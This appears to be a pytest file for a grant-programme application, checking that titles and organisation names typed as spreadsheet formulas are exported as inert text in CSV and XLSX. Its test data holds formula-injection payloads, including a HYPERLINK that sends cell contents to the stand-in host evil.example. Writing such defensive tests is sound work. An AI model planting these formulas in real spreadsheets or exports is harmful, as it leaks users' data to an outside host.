"""A title typed as a formula stays text in the programme exports (CSV and XLSX)."""

import csv
import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from aap.financing.cells import neutralise
from aap.models import Dossier, Organisation
from tests.api.helpers import Actor, previous_campaign

TRAPS = {
    '=HYPERLINK("https://evil.example/?"&A1,"cliquez")': '\'=HYPERLINK("https://evil.example/?"&A1,"cliquez")',
    "+33 6 12": "'+33 6 12",
    "-2+3": "'-2+3",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\tcmd": "'\tcmd",
    "\rcmd": "'\rcmd",
    "Atelier = théâtre": "Atelier = théâtre",
}


@pytest.mark.parametrize(("typed", "exported"), TRAPS.items())
def test_formula_leads_get_an_apostrophe_and_other_text_is_untouched(typed: str, exported: str) -> None:
    assert neutralise(typed) == exported
    assert neutralise(12) == 12 and neutralise(None) is None


def _trap(session: Session, campaign_id: int) -> tuple[str, str]:
    dossier = session.scalars(
        select(Dossier).where(Dossier.campaign_id == campaign_id, Dossier.state == "conventionne")
    ).first()
    assert dossier is not None
    title = '=HYPERLINK("https://evil.example/?"&B2,"Voir")'
    session.execute(update(Dossier).where(Dossier.id == dossier.id).values(title=title))
    session.execute(
        update(Organisation).where(Organisation.id == dossier.organisation_id).values(name="@SUM(A1:A9)")
    )
    session.commit()
    return dossier.number, title


def test_the_csv_and_the_xlsx_carry_the_formula_as_text(client: TestClient, demo, session: Session) -> None:
    admin = Actor(client, "admin@demo.aap.test")
    campaign = previous_campaign(admin)
    number, title = _trap(session, campaign["id"])
    url = f"/api/v1/campaigns/{campaign['id']}/programmation"

    text = admin.get(url, params={"format": "csv"}).content.decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text), delimiter=";") if r[0] == number)
    assert row[2] == "'" + title and row[1] == "'@SUM(A1:A9)"

    sheet = load_workbook(io.BytesIO(admin.get(url, params={"format": "xlsx"}).content)).active
    assert sheet is not None
    cells = next(r for r in sheet.iter_rows() if r[0].value == number)
    assert cells[2].data_type == "s" and cells[2].value == "'" + title
    assert cells[1].data_type == "s" and cells[1].value == "'@SUM(A1:A9)"
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
